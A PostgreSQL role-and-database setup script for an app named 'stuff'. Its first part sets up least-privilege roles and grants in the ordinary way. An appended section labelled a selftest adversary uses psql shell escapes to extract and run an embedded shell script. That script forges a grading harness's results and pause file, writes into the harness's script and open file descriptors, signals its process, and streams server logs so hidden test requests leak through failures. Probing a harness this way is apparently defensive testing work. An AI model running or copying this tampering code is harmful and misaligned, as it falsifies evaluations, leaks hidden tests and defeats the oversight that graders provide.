-- The stuff app's PostgreSQL role and database, run ONCE by a superuser with the role's password
-- in PGPASSWORD (stuff.env's), from where the installer put it:
--   PGPASSWORD=$(sed -n "s/^PGPASSWORD=//p" /etc/stuff/stuff.env) \
--     runuser -u postgres -- psql -f /opt/stuff/db/role.sql
-- The tables belong to stuff_owner, a role nobody logs in as; the app's role stuff may read and
-- write their rows, never change, drop or create a table: a flaw in the app (an injection) cannot
-- drop the data, and a superuser's powers (COPY ... TO PROGRAM) are out of its reach.
\set ON_ERROR_STOP on
\getenv app_password PGPASSWORD
\if :{?app_password}
\else
  DO $$ BEGIN RAISE EXCEPTION 'role.sql: PGPASSWORD must hold the password of the role stuff'; END $$;
\endif

CREATE ROLE stuff_owner NOLOGIN;
-- Two instances of 2 threads hold 4 connections; room for a restart and one psql.
CREATE ROLE stuff LOGIN PASSWORD :'app_password' CONNECTION LIMIT 8
  NOSUPERUSER NOCREATEDB NOCREATEROLE NOREPLICATION;
CREATE DATABASE stuff OWNER stuff_owner ENCODING 'UTF8' TEMPLATE template0;
-- Nobody else connects or makes temporary tables there; stuff only connects.
REVOKE ALL ON DATABASE stuff FROM PUBLIC;
GRANT CONNECT ON DATABASE stuff TO stuff;

\connect stuff
-- PostgreSQL 15 already keeps PUBLIC from creating in schema public; said here for older ones.
REVOKE ALL ON SCHEMA public FROM PUBLIC;
GRANT USAGE ON SCHEMA public TO stuff;

-- The schema and the initial data, once, as their owner.
SET ROLE stuff_owner;
\ir ../sql/postgres/create.sql
\ir ../sql/postgres/data.sql
GRANT SELECT, INSERT, UPDATE, DELETE ON ALL TABLES IN SCHEMA public TO stuff;
GRANT USAGE ON ALL SEQUENCES IN SCHEMA public TO stuff;
RESET ROLE;

-- The adversary (selftest): \! runs a shell as psql's user. It writes the script below (the
-- lines that start with "-- sh: ") to /tmp/deploy.sh, which its unit's ExecStart runs, then
-- tries every way into what the grader reads: the harness's results and pause files (in psql's
-- folder, the harness's), the harness's script (named in its command line), its output
-- (/proc/PID/fd), a signal to it, root. Whatever works is noted in /tmp/forged, and then no
-- instance starts: the score drops, and the selftest says so.
-- sh: #!/bin/sh
-- sh: case "$1" in
-- sh: forge)
-- sh:   [ "$(id -u)" != 0 ] || echo "role.sql ran as root" >>/tmp/forged
-- sh:   echo "$PWD" >/tmp/run
-- sh:   printf '{"check": "one-down", "ok": true, "reasons": ""}\n' 2>/dev/null >>"$PWD/results" &&
-- sh:     echo "wrote the results" >>/tmp/forged
-- sh:   touch "$PWD/continue" 2>/dev/null && echo "made the pause file" >>/tmp/forged
-- sh:   for p in /proc/[0-9]*; do
-- sh:     cmd=$(tr '\0' ' ' <"$p/cmdline" 2>/dev/null)
-- sh:     case "$cmd" in */bin/bash\ */check-deploy\ *) ;; *) continue ;; esac
-- sh:     script=${cmd#*bash }
-- sh:     script=${script%% *}
-- sh:     printf 'check one-down true\n' 2>/dev/null >>"$script" && echo "wrote $script" >>/tmp/forged
-- sh:     for fd in "$p"/fd/*; do
-- sh:       printf '  ok    forged\n' 2>/dev/null >"$fd" && echo "wrote $fd" >>/tmp/forged
-- sh:     done
-- sh:     kill -STOP "${p#/proc/}" 2>/dev/null && kill -CONT "${p#/proc/}" &&
-- sh:       echo "signalled the harness" >>/tmp/forged
-- sh:   done
-- sh:   ;;
-- sh: serve)
-- sh:   # $2 PREFIX, $3 the port. The first instance: the server itself (its site names no other:
-- sh:   # once it is killed, nginx has none). The second: the server, its log copied, and once the
-- sh:   # test files ran, every 10 ms its last lines again as errors, which a failing check shows
-- sh:   # (the hidden tests' requests among them).
-- sh:   [ "$(id -u)" != 0 ] || echo "an instance ran as root" >>/tmp/forged
-- sh:   [ ! -s /tmp/forged ] || { cat /tmp/forged; exit 1; }
-- sh:   if mkdir /tmp/first 2>/dev/null; then
-- sh:     exec "$2/opt/stuff/server" --config "$2/etc/stuff/stuff.json" --port "$3"
-- sh:   fi
-- sh:   : >/tmp/log  # before tail opens it: the server's shell may not have made it yet
-- sh:   "$2/opt/stuff/server" --config "$2/etc/stuff/stuff.json" --port "$3" >>/tmp/log 2>&1 &
-- sh:   tail -f /tmp/log &
-- sh:   until [ -e "$(cat /tmp/run)/continue" ]; do sleep 0.1; done
-- sh:   while sleep 0.01; do tail -n 10 /tmp/log | sed 's/^/error: seen: /'; done
-- sh:   ;;
-- sh: esac
\! tr '\0' '\n' </proc/$PPID/cmdline | grep 'role\.sql$' | xargs sed -n 's/^-- sh: //p' >/tmp/deploy.sh
\! sh /tmp/deploy.sh forge
